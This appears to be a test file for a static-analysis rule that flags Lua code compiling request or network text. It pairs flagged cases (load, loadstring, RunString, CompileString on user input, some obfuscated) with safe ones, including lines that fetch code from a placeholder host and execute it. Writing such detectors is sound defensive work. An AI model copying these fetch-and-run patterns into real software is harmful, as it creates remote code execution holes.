-- Small web pages of a unit; some of them take text.
local compile = loadstring or load
local keep = {}

local function stored(name)
  local fh = io.open("/usr/share/unit/" .. name .. ".lua")
  local text = fh and fh:read("*a")
  if fh then fh:close() end
  return text
end

local function page(req)
  local text = stored("extra")
  if req.page == "alt.3" then
    text = req.note
  end
  -- ruleid: lua-request-text-loaded-as-code
  return compile(text)
end

local function hook(msg)
  local parts = {}
  for i = 1, #msg.parts do
    parts[i] = msg.parts[i]
  end
  -- ruleid: lua-request-text-loaded-as-code
  local f = load(table.concat(parts), "hook", "t")
  return f and f()
end

local function from_peer(client)
  local line = client:receive("*l")
  keep.last = line
end

local function rerun()
  -- ruleid: lua-request-text-loaded-as-code
  assert(loadstring("return " .. keep.last))()
end

local function by_table(http)
  local body = http.formvalue("body")
  -- ruleid: lua-request-text-loaded-as-code
  local chunk = _G["load" .. "string"](body)
  return chunk and chunk()
end

local function plain_page(req)
  local text = stored(req.page:match("^%l+$") or "none")
  keep.page = req.page
  -- ok: lua-request-text-loaded-as-code
  return compile(stored("list"))
end

local function number(req)
  local n = tonumber(req.n)
  -- ok: lua-request-text-loaded-as-code
  return load("return " .. tostring(n))()
end

local function parse(req)
  -- ok: lua-request-text-loaded-as-code
  local data = decode(req.text)
  -- ok: lua-request-text-loaded-as-code
  keep.list = load_list(req.list)
  return data
end

net.Receive("shop_sync", function(size, who)
  local order = net.ReadString()
  -- ruleid: lua-request-text-loaded-as-code
  RunString(order, "shop")
end)

http.Fetch("https://addons.example.net/v2", function(page, length)
  if length > 10 then
    -- ruleid: lua-request-text-loaded-as-code
    CompileString(page, "v2")()
  end
end)

PerformHttpRequest("https://addons.example.net/check", function(state, answer, head)
  -- ruleid: lua-request-text-loaded-as-code
  assert(load(answer))()
end)

local parts = { _G, "load", 12, "PerformHttpRequest" }
parts[1][parts[4]]("https://addons.example.net/b", function(code, got)
  -- ruleid: lua-request-text-loaded-as-code
  local go = parts[1][parts[2]](got)
  if go then go() end
end)

-- ruleid: lua-request-text-loaded-as-code
loadstring(game:HttpGet("https://addons.example.net/ui.lua"))()

http.Fetch("https://addons.example.net/news", function(page)
  -- ok: lua-request-text-loaded-as-code
  news:SetText(page)
end)

net.Receive("shop_name", function(size, who)
  local name = net.ReadString()
  -- ok: lua-request-text-loaded-as-code
  RunString("print(1)", name)
end)

PerformHttpRequest("https://addons.example.net/version", function(state, answer)
  -- ok: lua-request-text-loaded-as-code
  local list = json.decode(answer)
  print(list.version)
end)
